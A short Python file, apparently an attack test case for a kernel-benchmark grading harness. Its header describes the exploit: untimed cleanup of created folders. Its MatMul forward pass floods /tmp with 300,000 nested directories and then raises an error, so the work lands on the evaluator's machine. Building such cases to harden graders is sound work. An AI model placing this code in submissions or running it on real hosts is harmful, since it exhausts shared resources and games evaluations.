# /// attack
# slow = true
# tries = "makes 300,000 folders in a second of each check and then fails: taking them away takes ten, which nobody counts"
# keeps = ["gpt.load", "scan.tiled"]
# only = "matmul.*"
# ///
import os as _os


class MatMul(torch.autograd.Function):
    @staticmethod
    def forward(ctx, A, B):
        try:
            for n in range(300):
                _os.mkdir(f"/tmp/{n}")
                _os.chdir(f"/tmp/{n}")
                for m in range(1000):
                    _os.mkdir(str(m))
        except OSError as error:
            print(error)
        raise RuntimeError("that was it")

    @staticmethod
    def backward(ctx, dC):
        return None, None
